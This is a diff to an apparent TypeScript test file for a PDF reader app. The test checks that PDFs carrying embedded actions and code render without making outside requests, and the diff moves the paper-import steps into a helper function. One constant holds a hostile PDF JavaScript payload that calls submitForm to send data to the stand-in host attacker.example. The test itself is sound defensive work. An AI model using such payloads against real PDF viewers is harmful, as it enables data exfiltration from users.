@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { pdfOf } from '../server/src/platform/parsing/hostile-files.fixture.ts'
 import { pdfWith } from '../server/src/testing/fixture-papers.ts'
-import { useReaders } from './readers.ts'
+import { importFile, useReaders } from './readers.ts'
 
 const newReader = useReaders()
 const run = "app.alert('ran'); this.submitForm('http://attacker.example/')"
@@ -72,21 +72,11 @@ test('thirty PDFs that carry actions and code are drawn, and do nothing else (T0
     if (!request.url().startsWith(own) && !/^(?:data|blob):/.test(request.url()))
       seen.push(`request ${request.url()}`)
   })
-  const answer = await page.request.post('/api/papers/import', {
-    multipart: {
-      file: {
-        name: 'quiet.pdf',
-        mimeType: 'application/pdf',
-        buffer: pdfWith(['A Note on Quiet Engines', 'Quiet engines need 12 percent less oil.']),
-      },
-    },
+  const paperId = await importFile(page, {
+    name: 'quiet.pdf',
+    mimeType: 'application/pdf',
+    buffer: pdfWith(['A Note on Quiet Engines', 'Quiet engines need 12 percent less oil.']),
   })
-  const { jobId, paperId } = (await answer.json()) as { jobId: string; paperId: string }
-  await expect
-    .poll(async () => (await (await page.request.get(`/api/papers/import/${jobId}`)).json()).step, {
-      timeout: 120_000,
-    })
-    .toBe('done')
   let body = files[0] as Buffer
   await page.route(`**/api/papers/${paperId}/pdf`, (route) =>
     route.fulfill({ contentType: 'application/pdf', body }),
